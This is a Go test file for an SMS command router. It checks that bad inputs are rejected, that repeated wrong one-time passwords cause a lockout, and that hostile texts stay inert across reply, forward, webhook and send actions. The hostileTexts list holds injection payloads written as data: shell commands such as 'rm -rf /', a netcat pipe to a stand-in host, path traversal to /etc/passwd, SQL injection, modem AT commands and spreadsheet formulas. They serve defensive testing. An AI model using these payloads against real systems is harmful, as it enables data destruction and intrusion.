package router

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"trunkline/router/access"
	"trunkline/router/program"
	"trunkline/store"
)

// inboundCase is a case of bad-inputs.json on the surface inbound.
type inboundCase struct {
	ID, Surface string
	Input       struct {
		From, Text string
		Gen        struct {
			Kind, Prefix, Char, Text string
			Count                    int
		}
		Setup struct {
			Action struct {
				Name, Tenant   string
				Exec           []string
				Authentication any
			}
			ModemTenant string `json:"modem_tenant"`
		}
	}
	Expect struct {
		Outcome, Field string
		Must           []string
		MustNot        []string `json:"must_not"`
	}
}

func inboundCases(t *testing.T) (all []inboundCase) {
	t.Helper()
	file := filepath.Join("..", "config", "testdata", "bad-inputs.json")
	if dir := os.Getenv("TRUNKLINE_VECTORS"); dir != "" {
		file = filepath.Join(dir, "bad-inputs.json")
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var vectors struct{ Cases []json.RawMessage }
	if err := json.Unmarshal(data, &vectors); err != nil {
		t.Fatal(err)
	}
	for _, raw := range vectors.Cases {
		var head struct{ Surface string }
		if json.Unmarshal(raw, &head); head.Surface != "inbound" {
			continue
		}
		var c inboundCase
		if err := json.Unmarshal(raw, &c); err != nil {
			t.Fatal(err)
		}
		all = append(all, c)
	}
	if len(all) < 7 {
		t.Fatalf("only %d cases", len(all))
	}
	return all
}

// ran tells whether any run of an action did something.
func (d *desk) ran() bool {
	all, _, err := d.store.Runs(d.t.Context(), "", store.MessageID{}, 1000)
	if err != nil {
		d.t.Fatal(err)
	}
	for _, r := range all {
		if r.State == store.RunDone || r.State == store.RunRunning || r.State == store.RunFailed {
			return true
		}
	}
	return false
}

// TestInboundVectors runs the cases of the shared vectors about messages that come in. An action that a case names has one argument, arg1, and group ops may
// start it; the program wol-helper prints what it was given.
func TestInboundVectors(t *testing.T) {
	confined := program.Check() == nil
	for _, c := range inboundCases(t) {
		t.Run(c.ID, func(t *testing.T) {
			marker := filepath.Join(t.TempDir(), "ran")
			path := filepath.Join(t.TempDir(), "wol-helper")
			if err := os.WriteFile(path, fmt.Appendf(nil, "#!/bin/sh\necho ran > %s\nprintf '%%s:%%s' \"$#\" \"$1\"\n", marker), 0o755); err != nil {
				t.Fatal(err)
			}
			d := newDesk(t, func(c *ScreenConfig) { c.UnknownText = "unknown command" }, map[string]program.Config{"wol-helper": {Path: path, Args: []string{"{arg1}"}, Write: []string{filepath.Dir(marker)}}}).everybody()
			from, name := c.Input.From, c.Input.Setup.Action.Name
			if from == "" {
				from = annNumber
			}
			if name == "" && strings.HasPrefix(c.Input.Gen.Prefix, "wake") {
				name, c.Input.Setup.Action.Exec = "wake", []string{"wol-helper", "{arg1}"}
			}
			a := store.Action{Keyword: name, Kind: store.ActionReply, Text: "did it", Filtered: true}
			if len(c.Input.Setup.Action.Exec) > 0 {
				a.Kind, a.Target, a.Text, a.Arguments = store.ActionProgram, c.Input.Setup.Action.Exec[0], "", []store.ActionArgument{{Name: "arg1", Type: "str", Required: true}}
			}
			a.Authentication = c.Input.Setup.Action.Authentication == true
			if c.Input.Setup.Action.Authentication == "totp" {
				a.Level = 3
			}
			if tenant := c.Input.Setup.Action.Tenant; tenant != "" {
				if _, err := d.store.Providers().Add(t.Context(), time.Now(), "test", store.Provider{Name: tenant}); err != nil {
					t.Fatal(err)
				}
				a.Provider, a.Filtered = tenant, false
			}
			if name != "" {
				d.action(a)
			}
			switch c.Input.Gen.Kind {
			case "sms_codes":
				d.guess(c.Input.Gen.Count, name)
				return
			case "sms_loop":
				answers := 0
				for range 20 {
					_, sent := d.says(from, c.Input.Gen.Text)
					answers += len(sent)
				}
				if answers != 3 {
					t.Errorf("%d equal answers", answers)
				}
				return
			case "sms_text":
				c.Input.Text = c.Input.Gen.Prefix + strings.Repeat(c.Input.Gen.Char, c.Input.Gen.Count)
			}
			m := d.message(from, c.Input.Text)
			trial, err := d.Try(t.Context(), &m)
			if err != nil {
				t.Fatal(err)
			}
			m, sent := d.receives(m)
			_, failed := os.Stat(marker)
			switch c.Expect.Outcome {
			case "reject":
				if trial.Field != c.Expect.Field || d.ran() || failed == nil {
					t.Errorf("field %q, want %q; %+v", trial.Field, c.Expect.Field, d.run(m))
				}
				if c.Expect.Field == "authentication" && (!has(sent, annNumber, "answer") || len(sent) != 1) {
					t.Errorf("the challenge: %q", sent)
				}
				if c.Expect.Field == "action" && !has(sent, from, "unknown command") {
					t.Errorf("the answer: %q", sent)
				}
			case "accept_safe":
				if c.Expect.Field == "args" {
					if want := "1:" + strings.TrimPrefix(c.Input.Text, "wake "); confined && !has(sent, from, want) {
						t.Errorf("%q, want %q", sent, want)
					}
					return
				}
				if out, err := d.store.OptedOut(t.Context(), m.From, ""); err != nil || !out {
					t.Errorf("not opted out: %v", err)
				}
			default:
				t.Errorf("outcome %q is not known here", c.Expect.Outcome)
			}
		})
	}
}

// guess sends wrong one-time passwords; after five the sender is locked out, the manager is told, and there is at most one answer.
func (d *desk) guess(n int, keyword string) {
	if err := d.store.PutFactor(d.t.Context(), store.Factor{ID: d.ann.ID, Secret: []byte("12345678901234567890")}, time.Now(), "test"); err != nil {
		d.t.Fatal(err)
	}
	right := map[string]bool{}
	for s := range uint64(4) {
		right[access.TOTPCode([]byte("12345678901234567890"), uint64(time.Now().Unix())/30-1+s)] = true
	}
	alarms, answers := 0, 0
	for i := range n {
		guess := fmt.Sprintf("%06d", 900_000+i)
		if right[guess] {
			continue
		}
		_, sent := d.says(annNumber, keyword+" "+guess)
		for _, s := range sent {
			if strings.HasPrefix(s, sueNumber) {
				alarms++
			} else {
				answers++
			}
		}
	}
	if alarms != 1 || answers > 1 || d.ran() {
		d.t.Errorf("%d alarms, %d answers, ran %v", alarms, answers, d.ran())
	}
}

// hostileTexts attack shells, modems, readers of HTML, terminals and spreadsheets.
var hostileTexts = []string{"; rm -rf / #", "$(reboot)", "`id`", "| nc evil 1", "&& true", "\x1a", "\x1b[2J\x1b]0;x\x07", "AT+CMGD=1,4\r", "+CMTI: \"SM\",1", "<script>alert(1)</script>", "&lt;b&gt;", "=HYPERLINK(\"http://x\")",
	"@SUM(1)", "\u202egnp.exe", "\u2066x\u2069", "{{text}}{{range}}", "%s%n%d", "../../etc/passwd", "\r\nBcc: x@y", "a\x00b", "\ufeff", strings.Repeat("A", 1500), "' OR 1=1 --", "\xff\xfe"}

// No text makes an action of any kind do anything but what it is for: values stay values, and what goes out has nothing in it that steers a terminal.
func TestHostileTextsThroughEveryKind(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		d := newDesk(t, func(c *ScreenConfig) { c.SenderLimit, c.ActionLimit = 1000, 1000 }, nil).everybody()
		d.o.Mail = func() string { return "post" }
		text := []store.ActionArgument{{Name: "x", Type: "str"}}
		d.action(store.Action{Keyword: "reply", Kind: store.ActionReply, Text: "<{{args.x|default:\"\"}}> {{text|truncate:40}}", Arguments: text})
		d.action(store.Action{Keyword: "forward", Kind: store.ActionForward, Target: carlNumber})
		d.action(store.Action{Keyword: "hook", Kind: store.ActionWebhook, Target: "x"})
		d.action(store.Action{Keyword: "send", Kind: store.ActionBuiltin, Target: BuiltinSendSMS, Arguments: []store.ActionArgument{{Name: "to", Type: "str", Required: true}, {Name: "message", Type: "str", Required: true}}})
		for _, hostile := range hostileTexts {
			for _, form := range []string{"%s", "reply %s", "forward %s", "hook %s", "send ops %s", "send %s x", "%s:1:0,x", "tok:1:0,%s"} {
				time.Sleep(time.Hour) // the loop guard is tested elsewhere
				m, sent := d.says(sueNumber, strings.ToValidUTF8(fmt.Sprintf(form, hostile), "\uFFFD"))
				if m.State != store.Received {
					t.Fatalf("%q: %+v", hostile, m)
				}
				for _, s := range sent {
					_, body, _ := strings.Cut(s, ": ")
					if body != plainText(body) {
						t.Errorf("%q sends %q", hostile, body)
					}
				}
			}
		}
		d.sound()
	})
}
